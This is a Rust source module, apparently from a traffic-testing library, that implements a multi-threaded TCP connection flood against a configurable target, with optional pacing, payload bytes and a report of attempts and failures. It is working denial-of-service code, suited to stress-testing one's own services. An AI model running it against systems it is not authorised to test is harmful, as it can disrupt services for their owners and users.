use std::io::Write;
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use super::TrafficError;

/// TCP connection flood against a live target.
#[derive(Debug, Clone)]
pub struct FloodConfig {
    pub target: SocketAddr,
    pub threads: u32,
    pub duration: Duration,
    /// Connections per second per thread; unpaced when `None`.
    pub per_thread_rate: Option<f64>,
    /// Bytes sent on each connection before closing.
    pub payload: usize,
    pub connect_timeout: Duration,
}

impl FloodConfig {
    pub fn new(target: SocketAddr, threads: u32, duration: Duration) -> Self {
        FloodConfig {
            target,
            threads,
            duration,
            per_thread_rate: None,
            payload: 0,
            connect_timeout: Duration::from_secs(1),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct FloodReport {
    pub attempts: u64,
    /// Connections established and closed.
    pub completed: u64,
    /// Refused, timed out or otherwise failed.
    pub failed: u64,
}

#[derive(Default)]
struct Counters {
    attempts: AtomicU64,
    completed: AtomicU64,
    failed: AtomicU64,
}

/// Opens and closes connections from `threads` workers until the duration
/// elapses. Failed connects are counted, never fatal.
pub fn flood(cfg: &FloodConfig) -> Result<FloodReport, TrafficError> {
    if cfg.threads == 0 {
        return Err(TrafficError::InvalidProfile("threads must be positive".into()));
    }
    if let Some(rate) = cfg.per_thread_rate {
        if !(rate.is_finite() && rate > 0.0) {
            return Err(TrafficError::InvalidProfile("rate must be positive".into()));
        }
    }
    let counters = Arc::new(Counters::default());
    let deadline = Instant::now() + cfg.duration;
    let workers: Vec<_> = (0..cfg.threads)
        .map(|_| {
            let counters = Arc::clone(&counters);
            let cfg = cfg.clone();
            thread::Builder::new().name("flood".into()).spawn(move || worker(&cfg, deadline, &counters))
        })
        .collect::<Result<_, _>>()?;
    for w in workers {
        let _ = w.join();
    }
    Ok(FloodReport {
        attempts: counters.attempts.load(Ordering::SeqCst),
        completed: counters.completed.load(Ordering::SeqCst),
        failed: counters.failed.load(Ordering::SeqCst),
    })
}

fn worker(cfg: &FloodConfig, deadline: Instant, counters: &Counters) {
    let gap = cfg.per_thread_rate.map(|r| Duration::from_secs_f64(1.0 / r));
    let payload = vec![b'A'; cfg.payload];
    let mut next = Instant::now();
    while Instant::now() < deadline {
        if let Some(gap) = gap {
            let now = Instant::now();
            if next > now {
                thread::sleep(next - now);
                if Instant::now() >= deadline {
                    break;
                }
            }
            next += gap;
        }
        counters.attempts.fetch_add(1, Ordering::SeqCst);
        match TcpStream::connect_timeout(&cfg.target, cfg.connect_timeout) {
            Ok(mut s) => {
                if !payload.is_empty() {
                    let _ = s.write_all(&payload);
                }
                let _ = s.shutdown(Shutdown::Both);
                counters.completed.fetch_add(1, Ordering::SeqCst);
            }
            Err(_) => {
                counters.failed.fetch_add(1, Ordering::SeqCst);
            }
        }
    }
}
